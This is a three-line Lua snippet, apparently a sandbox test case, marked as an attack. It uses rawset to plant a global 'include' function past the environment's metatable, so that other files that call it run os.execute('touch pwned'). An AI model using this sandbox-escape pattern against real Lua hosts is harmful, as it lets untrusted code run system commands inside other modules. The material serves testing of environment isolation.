-- Attack: plant a global with rawset, bypassing the environment's
-- metatable, so that other files see it.
rawset(_ENV, "include", function() os.execute("touch pwned") end)
